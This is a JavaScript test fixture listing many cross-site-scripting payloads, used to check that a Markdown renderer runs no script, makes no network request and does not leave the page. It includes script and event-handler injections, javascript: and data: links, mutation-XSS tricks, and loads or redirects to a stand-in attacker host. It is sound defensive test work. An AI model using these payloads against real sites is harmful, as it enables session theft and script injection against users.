// Texts that would like to be programs. Each would set `window.ran`, ask for something on the network, or leave the page.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from './bridge.js';

const RUN = 'window.ran=(window.ran||0)+1';

/** Markdown, and HTML that has no business in it. */
export const HOSTILE = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src="https://evil.example/pixel.png"/onerror=${RUN}>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">click</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<input autofocus onfocus="${RUN}">`,
  `<form action="https://evil.example/"><button>send</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/b.png) }</style>`,
  `<div style="background:url(https://evil.example/c.png);position:fixed;inset:0">over everything</div>`,
  `<a href="javascript:${RUN}">a link</a>`,
  `[a link](javascript:${RUN})`,
  `[a link](JaVaScRiPt:${RUN})`,
  `[a link](java&#x0a;script:${RUN})`,
  `[a link](&#106;avascript:${RUN})`,
  `[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a link](vbscript:msgbox(1))`,
  `[a link](file:///etc/passwd)`,
  `[a link](tauri://localhost/index.html)`,
  `[a link](//evil.example/no-scheme)`,
  `<javascript:${RUN}>`,
  `![a picture](https://evil.example/picture.png)`,
  `![a picture](javascript:${RUN})`,
  `![a picture](x" onerror="${RUN})`,
  `[a link](https://example.org/" onmouseover="${RUN})`,
  `[a link](https://example.org/ "title\\" onmouseover=\\"${RUN}")`,
  `<https://example.org/" onclick="${RUN}>`,
  `[ref]: javascript:${RUN}\n\n[ref]`,
  '```"><script>' + RUN + '</script>\ncode\n```',
  '`<img src=x onerror=' + RUN + '>`',
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `# <img src=x onerror=${RUN}>`,
  `> <noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<xss onpointerenter="${RUN}" style="display:block">hover</xss>`,
  `&lt;img src=x onerror=${RUN}&gt; and &amp;lt;script&amp;gt;`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `\u0000<img src=x onerror=${RUN}>`,
  `<img src=x onerror\u2028=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} {@html '<img src=x onerror=${RUN}>'}`,
  `<a href="https://example.org" target="_blank" ping="https://evil.example/ping" rel="opener">a link</a>`,
];

/** What `exchange` is tested with, payload by payload; here a few stand on each page. `alert` is seen too. */
export function corpus() {
  const letters = { n: '\n', t: '\t', x00: '\0', x01: '\u0001', x0c: '\f' };
  const payloads = readFileSync(join(root, 'tests/fixtures/xss/payloads.txt'), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('%%'))
    .map((line) => line.replace(/\\(n|t|x00|x01|x0c)/g, (_, letter) => letters[letter]));
  const pages = [];
  for (let at = 0; at < payloads.length; at += 6) pages.push(payloads.slice(at, at + 6).join('\n\n***\n\n'));
  return pages;
}
